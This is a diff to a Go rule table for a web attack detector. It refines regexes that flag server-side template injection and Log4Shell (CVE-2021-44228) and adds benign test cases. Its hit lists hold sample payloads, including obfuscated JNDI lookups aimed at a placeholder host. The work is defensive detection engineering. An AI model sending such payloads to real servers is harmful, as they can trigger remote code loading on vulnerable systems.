@@ -78,11 +78,11 @@ var codeRules = []Rule{
 	{
 		ID: "template", Class: RCE, Level: High, Field: InAny,
 		Words:   []string{"{{", "${", "#{", "<#", "{%", "#set", "*{", "@{", "@(", "%{", "{php}", "{if", "[[", "{$"},
-		Pattern: `\{\{\s*[^}]{0,80}(?:\d\s*[*+/-]\s*\d|\.|\[|\(|\||__|'|self|config|request)[^}]{0,200}\}\}|[$#*@%]\{\s*(?:["']?\d+["']?\s*[*+/-]\s*["']?\d|[a-z_.]{2,60}\s*\(|\(|'[^']*'\s*\.|t\(|new\s)|<#(?:assign|list|include|import|if)\b|\{%\s*[a-z]|#set\s*\(|@\{\s*\[|@\(\s*\d+\s*[*+-]\s*\d|\{php\}|\{\$smarty|\[\[\s*\$\{|\{if\s+[a-z_]+\(`,
+		Pattern: `\{\{\s*[^}]*(?:\d\s*[*+/-]\s*['\d]|\[|\(|\||__|'|\bself\b|\bconfig\b|\brequest\b|\bsettings\b|constructor)[^}]*\}\}|[$#*@%]\{\s*(?:["']?\d+["']?\s*[*+/-]\s*["']?\d|[a-z_.]{2,60}\s*\(|\(|'[^']*'\s*\.|t\(|new\s)|<#(?:assign|list|include|import|if)\b|\{%\s*[a-z]|#set\s*\(|@\{\s*\[|@\(\s*\d+\s*[*+-]\s*\d|\{php\}|\{\$smarty|\[\[\s*\$\{|\{if\s+[a-z_]+\(`,
 		Why:     "an expression for a template engine ({{7*7}}, ${7*7}, <#assign)",
 		Source:  sourceSSTI,
 		Hit:     []string{"GET /a?x={{7*7}}", "GET /a?x=$%7B7*7%7D", "GET /a?x=#%7B7*7%7D", "GET /a?x=%23{16*8787}", "GET /a?x={{config.items()}}", "GET /a?x=<%23assign+x=1>"},
-		Miss:    []string{"GET /a?x={{name}}", "GET /a?x=%7B%22a%22:1%7D"},
+		Miss:    []string{"GET /a?x={{name}}", "GET /image/%7B%7BbasketItem.id%7D%7D", "GET /a?x=%7B%22a%22:1%7D"},
 	},
 	{
 		ID: "expression-java", Class: RCE, Level: High, Field: InAny,
@@ -100,14 +100,14 @@ var codeRules = []Rule{
 	{
 		ID: "log4shell", Class: RCE, Level: High, Field: InAny,
 		Words:   []string{"${", "jndi"},
-		Pattern: `\$\{\s*(?:jndi|(?:lower|upper|env|sys|java|date|ctx|main|map|base64|k8s|docker|spring|web|sd|bundle|marker|event|log4j|hostname|::?-|[a-z]{1,8}:-?[a-z:]|[^}]{0,20}:-)|\$\{)|\bjndi\s*:\s*(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)`,
+		Pattern: `\$\{\s*(?:jndi\b|(?:lower|upper|env|sys|java|date|ctx|main|map|base64|k8s|docker|spring|web|sd|bundle|marker|event|log4j|hostname)\s*:|[^{}]{0,40}:-|\$\{)|\bjndi\s*:\s*(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)`,
 		Why:     "Log4Shell: a lookup that makes log4j fetch code (CVE-2021-44228), plain or disguised",
 		Source:  sourceLog4j, Product: "Apache Log4j", CVE: "CVE-2021-44228",
 		Hit: []string{
 			"agent: ${jndi:ldap://h.example/a}", "GET /?x=$%7Bjndi:dns://h.example%7D", "referer: ${${lower:j}ndi:rmi://h.example/a}",
 			"GET /$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://h.example/%7D", "agent: ${${env:X:-j}ndi:ldap://h.example}",
 		},
-		Miss: []string{"GET /a?q=${name}", "GET /a?q=jndi+tutorial"},
+		Miss: []string{"GET /a?q=${name}", "GET /scripts/${WEBLOC}/x", "GET /a?q=jndi+tutorial"},
 	},
 	{
 		ID: "deserialise", Class: RCE, Level: High, Field: InAny,
